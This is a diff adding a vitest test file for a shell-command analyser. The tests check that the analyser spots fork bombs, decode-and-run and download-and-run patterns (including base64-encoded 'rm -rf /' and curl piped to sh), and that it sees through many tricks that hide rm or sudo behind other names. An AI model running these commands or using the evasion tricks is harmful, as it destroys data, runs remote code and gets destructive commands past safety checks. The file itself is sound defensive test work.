@@ -1,0 +1,82 @@
+import { describe, expect, it } from 'vitest'
+import { factsOf, lines } from './facts-of.js'
+
+describe('shapes', () => {
+  it.each([
+    [':(){ :|:& };:', 'fork-bomb'],
+    ['bomb() { bomb | bomb & }; bomb', 'fork-bomb'],
+    ["bash -c 'f() { f & f; }; f'", 'fork-bomb'],
+    ['echo cm0gLXJmIC8= | base64 -d | sh', 'decode-and-run'],
+    ['cat f | base64 -d | bash', 'decode-and-run'],
+    ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', 'decode-and-run'],
+    ["dc -e '114P 109P' | sh", 'decode-and-run'],
+    ["date +'rm x' | sh", 'decode-and-run'],
+    ["printf 'a\\nrm x\\n' | grep -v a | sh", 'decode-and-run'],
+    ['$(awk \'BEGIN{print "rm"}\') x', 'decode-and-run'],
+    ["x='rm y'; declare -p x | sed 's/.*=//' | sh", 'decode-and-run'],
+    ["echo 'r_m x' > f; sed -i s/_// f; bash f", 'decode-and-run'],
+    ['$(type -P rm) x', 'decode-and-run'],
+    ['coproc bash; echo rm x >&${COPROC[1]}', 'decode-and-run'],
+    ['curl http://h/x | sh', 'download-and-run'],
+    ['bash <(wget -qO- http://h/x)', 'download-and-run'],
+    ['eval "$(curl -s http://h/x)"', 'download-and-run'],
+    ['curl -o s http://h/x; sh s', 'download-and-run'],
+    ['curl http://h/x | tee f | bash', 'download-and-run'],
+  ] as const)('%s is a %s', (script, kind) => {
+    expect(factsOf(script).shapes.map((shape) => shape.kind)).toEqual([kind])
+  })
+
+  it('are not seen where nothing is run', () => {
+    for (const script of [
+      'echo aGk= | base64 -d',
+      'curl http://h/x -o f',
+      'f() { f2; }; f',
+      'f() { [ $1 -gt 0 ] && f $(($1-1)); }; f 3',
+    ])
+      expect({ script, shapes: factsOf(script).shapes }).toEqual({ script, shapes: [] })
+  })
+
+  it('show what was decoded', () => {
+    expect(lines(factsOf('echo cm0gLXJmIC8= | base64 -d | sh'))).toContain('sh: rm -rf /')
+  })
+})
+
+describe('names that hide a program', () => {
+  it.each([
+    ['/usr/bin/r? -rf x', 'rm'],
+    ['/u*r/b?n/gi[t] push', 'git'],
+    ['$(ls -d /usr/bin/c??l) x', 'curl'],
+    ['ln -s /usr/bin/sudo /tmp/list; /tmp/list id', 'sudo'],
+    ['cp /bin/rm ./ls; ./ls x', 'rm'],
+    ['cat /bin/rm > ls; chmod +x ls; ./ls x', 'rm'],
+    ['mkdir b; ln -s /bin/rm b/ls; PATH=b:$PATH; ls x', 'rm'],
+    ['BASH_CMDS[ls]=/bin/rm; ls x', 'rm'],
+    ['hash -p /bin/rm ls; ls x', 'rm'],
+    ['ls() { command rm x; }; export -f ls; bash -c ls', 'rm'],
+    ['ls() { rm x; }; ls', 'rm'],
+    ['cd /usr/bin && ./rm x', 'rm'],
+    ['$BASH -c "rm x"', 'rm'],
+    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'rm'],
+    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'ls'],
+    ['x=$(if [ -f a ]; then echo rm; else echo ls; fi); $x y', 'rm'],
+    ['GIT_SSH_COMMAND="rm x" git fetch', 'rm'],
+    ['PROMPT_COMMAND="rm x" bash -i', 'rm'],
+    ['command_not_found_handle() { rm x; }; nonsense', 'rm'],
+    ['f() { rm x; }; bash -c "$(declare -f f); f"', 'rm'],
+    ["set -o history; history -s 'rm x'; fc -s", 'rm'],
+    ["echo 'rm x' | parallel -I@ @", 'rm'],
+    ["echo 'rm x' > jobs; parallel -a jobs", 'rm'],
+    ['sem -j 2 rm x', 'rm'],
+    ['uclampset -m 1 rm x', 'rm'],
+    ['npx cross-env A=1 rm x', 'rm'],
+    ['dotenv -f e -- rm x', 'rm'],
+    ["watchexec -- sh -c 'rm x'", 'rm'],
+    ['start-stop-daemon --start --exec /bin/sh -- -c "rm x"', 'rm'],
+    ['$(realpath /usr/bin/sudo) id', 'sudo'],
+    ['$(find /usr/bin -maxdepth 1 -name sudo) id', 'sudo'],
+    ['/usr/bin/@(sudo|x) id', 'sudo'],
+    ['/proc/$$/exe -c "rm x"', 'bash'],
+  ])('%s: %s is seen', (script, program) => {
+    expect(factsOf(script).invocations.map((invocation) => invocation.program)).toContain(program)
+  })
+})
